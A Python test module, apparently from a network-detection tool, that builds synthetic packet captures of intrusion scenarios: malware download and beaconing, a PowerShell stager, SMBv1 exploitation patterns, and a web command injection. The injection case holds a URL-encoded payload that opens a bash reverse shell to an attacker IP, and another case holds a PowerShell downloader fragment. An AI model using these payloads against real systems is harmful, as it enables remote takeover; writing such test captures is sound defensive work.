"""Ways in and what follows: loaded programs and check-ins, old SMB, a web server that turns around."""

import struct
from collections.abc import Iterator
from random import Random
from typing import TYPE_CHECKING

from oddwire.testing.capture import Timed
from oddwire.testing.certificates import certificate, old_tls
from oddwire.testing.scene import Scene
from oddwire.testing.shells import filler_program, shell
from oddwire.testing.smb1 import Smb1
from oddwire.testing.web import fetch, request, response

if TYPE_CHECKING:
    from oddwire.testing.conversations import Step

BEGIN = 1_700_000_000.0
VICTIM, MASTER, SECOND = "192.168.10.107", "45.83.129.60", "185.117.90.14"
OFFICE = ["192.168.10.21", "192.168.10.104", "192.168.10.110", VICTIM]
WEB, INTRUDER = "192.168.10.44", "192.168.10.66"
VICTIM6, MASTER6 = "fd00:10::107", "2a03:b0c0:1::4a1"
SHORT, HOUR = 600.0, 3_600.0


def captures() -> Iterator[tuple[str, list[Timed]]]:
    """Yield each capture."""
    yield "program-then-check-ins", _program()
    yield "script-then-picture", _script()
    yield "old-smb-many-parts", _many_parts()
    yield "old-smb-pipe", _old_pipe()
    yield "web-server-turned", _turned()


def _scene(seed: int, seconds: float = SHORT, pages: int = 6) -> Scene:
    scene = Scene(200 + seed, BEGIN)
    scene.browsing(OFFICE, seconds, every=seconds / pages)
    return scene


def _tlv(dice: Random, size: int) -> bytes:
    """Return a message of a staged agent: a key, and length, kind and values under it."""
    return dice.randbytes(4) + dice.randbytes(28 + size)


def _program() -> list[Timed]:
    """A program is loaded from a bare address; then the host reports to another one, never seen before."""
    scene = _scene(17, 1_200)
    body = filler_program(scene.dice, 340_000)
    ask = request(MASTER, "/files/update_8831.exe", agent="Mozilla/4.0 (compatible; MSIE 7.0)")
    scene.say(VICTIM, MASTER, 80, fetch(ask, response(body, kind="application/x-msdownload")), at=BEGIN + 60)
    for at in scene.rounds(30, 1_200, jitter=0.1, after=75):
        said = b"\x11\x22" + scene.dice.randbytes(110)
        steps = [(0.01, True, said), (0.03, False, scene.dice.randbytes(20))]
        scene.say(VICTIM, SECOND, 8_041, steps, at=at, rtt=0.05)
    return scene.seen()


def _script() -> list[Timed]:
    """A macro loads a script, the script a program that says it is a picture; then TLS without a name."""
    scene = _scene(18, 1_500)
    script = b"$w=New-Object Net.WebClient;$p=$env:TEMP+'\\a.exe';" + b"# filler line of a script\r\n" * 40
    page = response(script, kind="text/plain", server="Apache/2.4.41 (Ubuntu)")
    plain = request(
        "fattura-servizi.top", "/a/stage.ps1", agent="Mozilla/5.0 (Windows NT; WindowsPowerShell/5.1)"
    )
    picture = response(
        filler_program(scene.dice, 210_000), kind="image/jpeg", server="Apache/2.4.41 (Ubuntu)"
    )
    scene.name(VICTIM, "fattura-servizi.top", [MASTER], at=BEGIN + 59.9)
    scene.say(VICTIM, MASTER, 80, fetch(plain, page), at=BEGIN + 60)
    ask = request("fattura-servizi.top", "/img/logo.jpg", agent="")
    scene.say(VICTIM, MASTER, 80, fetch(ask, picture), at=BEGIN + 63)
    chain = [certificate(scene.dice, [("C", "XX"), ("L", "Default City"), ("O", "Default Company Ltd")])]
    for at in scene.rounds(20, 1_500, jitter=0.15, after=90):
        steps = old_tls(scene.dice, [(0.002, 310, 160)], chain)
        scene.say(VICTIM, SECOND, 443, steps, at=at, rtt=0.06)
    return scene.seen()


def _many_parts() -> list[Timed]:
    """Requests of the first SMB in too many parts, lines held beside them; then the victim calls back."""
    scene = _scene(19)
    talk = Smb1(VICTIM)
    talk.log_on("IPC$")
    talk.peek_pipe()
    scene.say(INTRUDER, VICTIM, 445, talk.steps, at=BEGIN + 60, rtt=0.0005)
    talk = Smb1(VICTIM)
    talk.log_on("IPC$")
    filler = scene.dice.randbytes(4_096)
    talk.large_request(16, filler)
    talk.echo()
    talk.last_part(filler)
    scene.say(INTRUDER, VICTIM, 445, talk.steps, at=BEGIN + 62, rtt=0.0005, ending="open")
    for line in range(13):
        steps: list[Step] = [
            (0.001, True, b"\0\x00\xff\xf7\xfeSMB" + bytes(124)),
            (1.5, True, scene.dice.randbytes(2_900)),
        ]
        scene.say(INTRUDER, VICTIM, 445, steps, at=BEGIN + 62.5 + line * 0.01, rtt=0.0005, ending="rst")
    blob = filler_program(scene.dice, 200_000)
    back: list[Step] = [(0.01, False, struct.pack("<I", len(blob)) + blob)]
    for _ in range(25):
        back += [
            (0.05, True, _tlv(scene.dice, 200)),
            (scene.dice.expovariate(0.3), False, _tlv(scene.dice, 90)),
        ]
    scene.say(VICTIM, INTRUDER, 4_444, back, at=BEGIN + 64.6, rtt=0.0005, ending="open")
    return scene.seen()


def _old_pipe() -> list[Timed]:
    """A pipe of the server service is opened and called with a path that goes up; then a shell on 4444."""
    scene = _scene(20)
    talk = Smb1(WEB)
    talk.log_on("IPC$")
    talk.open_file("\\browser")
    interface = bytes.fromhex("c84f324b7016d30112785a47bf6ee188") + struct.pack("<I", 3)
    syntax = bytes.fromhex("045d888aeb1cc9119fe808002b104860") + struct.pack("<I", 2)
    bind = struct.pack("<HHIBBHHBB", 4_280, 4_280, 0, 1, 0, 0, 0, 1, 0) + interface + syntax
    bound = (
        struct.pack("<HHIH", 4_280, 4_280, 0x53F0, 13)
        + b"\\PIPE\\ntsvcs\0\0"
        + b"\x01\0\0\0\0\0\0\0"
        + syntax
    )
    talk.write(_call(11, bind))
    talk.read(_call(12, bound))
    path = (
        "\\A\\..\\..\\".encode("utf-16-le")
        + scene.dice.randbytes(600).hex().encode("utf-16-le")[:600]
        + bytes(4)
    )
    name = struct.pack("<IIII", 0x20000, 2, 0, 2) + "s\0".encode("utf-16-le")
    stub = name + struct.pack("<III", len(path) // 2, 0, len(path) // 2) + path + bytes(-len(path) % 4)
    stub += struct.pack("<IIIIHHII", 1_000, 1, 0, 1, 0, 0, 1, 0)
    talk.write(_call(0, struct.pack("<IHH", len(stub), 0, 31) + stub))
    scene.say(INTRUDER, WEB, 445, talk.steps, at=BEGIN + 60, rtt=0.0005, ending="rst")
    steps = shell(scene.dice, "cmd", 16, server_types=False)
    scene.say(INTRUDER, WEB, 4_444, steps, at=BEGIN + 62, rtt=0.0005)
    return scene.seen()


def _call(kind: int, body: bytes) -> bytes:
    return struct.pack("<BBBBIHHI", 5, 0, kind, 3, 0x10, 16 + len(body), 0, 1) + body


def _turned() -> list[Timed]:
    """A visitor makes a web server run a command; at once the server opens a shell to the visitor."""
    scene = _scene(21)
    for turn in range(25):
        visitor = f"203.0.113.{turn + 10}"
        steps = fetch(request("shop.example.com", f"/item/{turn}"), response(b"p" * 4_000))
        scene.say(visitor, WEB, 80, steps, at=BEGIN + 9 + 21 * turn, rtt=0.05)
    body = b"host=127.0.0.1%3Bbash+-c+%27bash+-i+%3E%26+%2Fdev%2Ftcp%2F45.83.129.60%2F9001+0%3E%261%27&go=1"
    more = {"Content-Type": "application/x-www-form-urlencoded"}
    ask = request("shop.example.com", "/cgi-bin/ping.cgi", method="POST", body=body, more=more)
    scene.say(MASTER, WEB, 80, [(0.0, True, ask)], at=BEGIN + 120, rtt=0.06, ending="open")
    scene.say(WEB, MASTER, 9_001, shell(scene.dice, "bash", 18), at=BEGIN + 120.2, rtt=0.06)
    return scene.seen()
